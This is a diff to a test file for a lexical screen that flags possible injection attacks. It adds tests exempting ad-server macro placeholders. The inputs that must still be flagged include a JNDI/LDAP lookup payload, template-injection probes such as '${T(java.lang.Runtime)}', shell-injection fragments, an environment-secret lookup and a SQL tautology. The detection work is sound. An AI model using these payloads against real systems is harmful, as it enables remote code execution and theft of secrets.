@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { HEADER_AFTER_BREAK, headerAfterBreak, INJECTION_WORDS, INJECTION_WORDS_BY_FIRST_LETTER, mayCarryAttack, proseEvidenceBlocks } from '../../src/model/screen.js';
+import { HEADER_AFTER_BREAK, headerAfterBreak, INJECTION_WORDS, INJECTION_WORDS_BY_FIRST_LETTER, isMacroPlaceholder, mayCarryAttack, proseEvidenceBlocks } from '../../src/model/screen.js';
 import { seededRandom } from '../../src/model/prng.js';
 
 describe('mayCarryAttack (lexical screen)', () => {
@@ -102,6 +102,21 @@ describe('mayCarryAttack (lexical screen)', () => {
  * per char). The table-driven pass must agree: texts that differ from a plain word only in one such
  * character pass or not exactly as that character decides (issue 14 speed change, no behaviour change).
  */
+describe('unexpanded macro placeholders (ad servers, tag managers)', () => {
+  it('does not send a lone upper-case placeholder to the model', () => {
+    for (const text of ['${SITE_ID}', '{PLACEMENT_ID}', '{{APP_BUNDLE}}', '[TIMESTAMP]', '%%VIDEO_ID%%', '${GDPR_CONSENT_755}']) {
+      expect(isMacroPlaceholder(text), text).toBe(true);
+      expect(mayCarryAttack(text), text).toBe(false);
+    }
+  });
+  it('still screens in lookups, expressions, lower-case names and anything around the braces', () => {
+    for (const text of ['${jndi:ldap://203.0.113.9/a}', '{{config}}', '${7*7}', '${IFS}cat', '{{SITE_ID}}|id', '${env:AWS_SECRET}', '[X] or 1=1', '${T(java.lang.Runtime)}', '{{7*7}}', `\${${'A'.repeat(60)}}`]) {
+      expect(isMacroPlaceholder(text), text).toBe(false);
+      expect(mayCarryAttack(text), text).toBe(true);
+    }
+  });
+});
+
 describe("the screen's character pass", () => {
   it('lets a text through for each attack-capable character, a doubled - or ., an escape hiding syntax, wherever it sits', () => {
     for (const ch of `'"<>;|&$\`(){}[]\\*!#\u0000\u0001\u001f\u007f\uff07\uff02\uff1c\uff1e\u2018\u2019\u201c\u201d`) {
